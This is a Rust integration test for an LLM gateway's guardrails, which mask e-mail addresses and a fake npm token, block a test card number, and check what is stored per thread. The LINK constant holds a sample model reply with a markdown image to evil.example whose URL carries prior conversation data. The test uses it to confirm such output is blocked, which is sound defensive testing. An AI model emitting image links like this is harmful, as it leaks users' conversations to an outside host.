//! What is stored of an answer is what its client saw, with placeholders for what the client said itself.

use std::fs;
use std::path::Path;
use std::time::Duration;

use serde_json::{Value, json};
use tests::client::{chat, content};
use tests::wait_until;

use crate::Stage;

const LIMIT: Duration = Duration::from_secs(10);
const ADA: &str = "ada@example.com";
const EVE: &str = "eve@example.org";
/// Looks like a token of npm's, and is none.
const TOKEN: &str = "npm_CahJZw681SCmMW2T9CzrOmUBe7TmnGJWYpV4";
const CARD: &str = "4111 1111 1111 1111";
/// Of a stream some words are out before it is ended; the last ones never are.
const LINK: &str = "Here: ![x](https://evil.example/p.png?data=all-that-was-said-before-and-more) as you wished, and this is what \
    there is more to say of it in many a word, for it takes a few of them until nobody hears the end.";

/// How a client asks: the thread's name in a header or in the body, for a plain answer or a stream.
#[derive(Clone, Copy)]
struct Way {
    thread: &'static str,
    in_body: bool,
    streamed: bool,
}

/// One client of the shipped chain, in which a card number blocks.
struct World {
    stage: Stage,
    token: String,
}

impl World {
    fn new() -> Self {
        let stage = Stage::with(|mut gateway| {
            for name in ["guardrails", "guardrails-answers"] {
                gateway = gateway.edit_filter(name, |it| it["pii"]["entities"]["credit_card"] = json!("block"));
            }
            // With one worker the reports of one instance arrive in their order.
            gateway.workers(1)
        });
        let token = stage.token("u1");
        Self { stage, token }
    }

    /// The text that a client reads, why it ended, and what the guards report of the request.
    fn ask(&self, way: Way, text: &str, behaviour: &str) -> (String, String, String) {
        self.stage.fake.behave("/openai", behaviour, Some(1));
        let mut body = chat("openai/gpt-4o", text);
        body["stream"] = json!(way.streamed);
        if way.in_body {
            body["conversation_id"] = json!(way.thread);
        }
        let call = self.stage.client().post("/v1/chat/completions", &body).bearer(&self.token);
        let call = if way.in_body { call } else { call.thread(way.thread) };
        let reason = |it: &Value| it["choices"][0]["finish_reason"].as_str().map(str::to_owned);
        if way.streamed {
            let mut stream = call.stream();
            let report = stream.header("x-tollgate-guardrails").unwrap();
            let events = stream.events();
            let finish = events.iter().filter(|it| it.data != "[DONE]").find_map(|it| reason(&it.json()));
            return (content(&events), finish.unwrap_or_else(|| panic!("no end: {events:?}")), report);
        }
        let answer = call.send();
        assert_eq!(answer.status, 200, "{}", answer.text());
        (answer.content(), reason(&answer.json()).unwrap(), answer.header("x-tollgate-guardrails").unwrap())
    }

    /// What the provider was sent last.
    fn sent(&self) -> String {
        String::from_utf8(self.stage.fake.requests().pop().unwrap().body).unwrap()
    }

    /// The texts of a thread's messages, once there are so many.
    fn stored(&self, thread: &str, count: usize) -> Vec<String> {
        wait_until(LIMIT, "the messages of the thread", || {
            let answer = self.stage.client().get(&format!("/v1/threads/{thread}/messages")).bearer(&self.token).send();
            let messages = answer.json()["data"].as_array().cloned().unwrap_or_default();
            let texts = || messages.iter().map(|it| it["content"].as_str().unwrap().to_owned()).collect();
            (messages.len() == count).then(texts)
        })
    }

    fn found(&self, rest: &str) -> u64 {
        self.stage.gateway.stat(&format!("wasmcustom.tollgate_guardrails_found.guard.{rest}"))
    }
}

/// A provider that says this.
fn saying(text: &str, way: Way) -> String {
    let digits: String = text.bytes().map(|it| format!("{it:02x}")).collect();
    format!("says-{digits}{}", if way.streamed { "+letters" } else { "" })
}

/// The first placeholder of an e-mail address; in a thread its number has six digits.
fn placeholder(text: &str) -> &str {
    let from = text.find("[EMAIL_").unwrap_or_else(|| panic!("no placeholder: {text}"));
    let name = &text[from..=from + text[from..].find(']').unwrap()];
    assert_eq!(name.len(), "[EMAIL_482913]".len(), "{text}");
    name
}

/// Five turns of one thread: what a client reads, what the provider does, and what is stored.
fn check(world: &World, way: Way) {
    let own = saying(&format!("Ask {EVE} for {TOKEN}."), way);
    let (said, finish, report) = world.ask(way, &format!("I am {ADA}"), "");
    assert_eq!((said.as_str(), finish.as_str()), ("You said: I am ada@example.com", "stop"));
    assert!(report.starts_with("pii=mask:1;sentinel=0."), "{report}");
    let ada = placeholder(&world.sent()).to_owned();

    let (masked, finish, report) = world.ask(way, "whom do I ask?", &own);
    assert!(report.starts_with("sentinel=0."), "of an answer there is no report: {report}");
    let eve = placeholder(&masked).to_owned();
    assert!(masked.starts_with("Ask [") && masked.contains(" for [NPM_TOKEN_") && finish == "stop", "{masked}");
    assert_ne!(ada, eve);

    let (blocked, finish, _) = world.ask(way, "my card?", &saying(&format!("It is {CARD}, as ever."), way));
    let before = if way.streamed { "It is " } else { "" };
    assert_eq!((blocked.as_str(), finish.as_str()), (before, "content_filter"));
    let (ended, finish, _) = world.ask(way, "a picture", &saying(LINK, way));
    assert!(finish == "content_filter" && !ended.contains("nobody hears"), "{finish} {ended}");

    // What the model said of its own, and what the client says, have the same number in every turn.
    let (again, ..) = world.ask(way, &format!("so {EVE}, and I am {ADA}?"), &own);
    assert!(again.starts_with("Ask eve@example.org for [NPM_TOKEN_"), "the client's own word is put back: {again}");
    let sent = world.sent();
    for text in [&format!("I am {ada}"), &masked, &format!("so {eve}, and I am {ada}?")] {
        assert!(sent.contains(text.as_str()), "{text}: {sent}");
    }
    let stored = world.stored(way.thread, 10);
    let expected = [
        &format!("I am {ada}"),
        &format!("You said: I am {ada}"),
        "whom do I ask?",
        &masked,
        "my card?",
        &blocked,
        "a picture",
        &ended,
        &format!("so {eve}, and I am {ada}?"),
        &masked,
    ];
    assert_eq!(stored, expected);
}

#[test]
fn what_is_stored_was_masked_or_blocked_before_and_is_told_and_counted_once() {
    let world = World::new();
    check(&world, Way { thread: "plain", in_body: false, streamed: false });
    check(&world, Way { thread: "streamed", in_body: true, streamed: true });

    let events = wait_until(LIMIT, "an event for each finding", || {
        let listed = world.stage.companion.run(&["events", "list", "--after", "0"])["events"].clone();
        let told =
            |it: &Value| ["type", "direction"].map(|key| it["event"][key].as_str().unwrap_or_default().to_owned());
        let mut events: Vec<String> = listed.as_array().unwrap().iter().map(|it| told(it).join(" ")).collect();
        events.sort();
        (events.len() >= 12).then_some(events)
    });
    let told = ["injection_block output", "pii_block output", "pii_detection input", "pii_detection output"];
    let counts = told.map(|kind| events.iter().filter(|it| *it == kind).count());
    assert_eq!((counts, events.len()), ([2, 2, 4, 4], 12), "{events:?}");
    for (rest, count) in [
        ("pii.action.mask.direction.request", 6),
        ("pii.action.mask.direction.response", 8),
        ("pii.action.block.direction.response", 2),
        ("sentinel.action.block.direction.response", 2),
    ] {
        assert_eq!(world.found(rest), count, "{rest}");
    }
    wait_until(LIMIT, "ten requests in the budget's ledger", || {
        let usage = world.stage.client().get("/v1/usage").bearer(&world.token).send().json();
        (usage["totals"]["requests"] == 10 && usage["totals"]["output_tokens"].as_u64() > Some(0)).then_some(())
    });
    let usage = world.stage.companion.usage_database();
    let folder = Path::new(usage.strip_prefix("sqlite://").unwrap()).parent().unwrap();
    let files = fs::read_dir(folder).unwrap().map(|it| it.unwrap().path()).filter(|it| it.is_file());
    let kept: Vec<u8> = files.flat_map(|it| fs::read(it).unwrap()).collect();
    let holds = |text: &str| kept.windows(text.len()).any(|it| it == text.as_bytes());
    assert!(holds("whom do I ask?"), "the memory database is looked at");
    for text in [ADA, EVE, TOKEN, "4111", "nobody hears"] {
        assert!(!holds(text), "{text} was stored");
    }
}
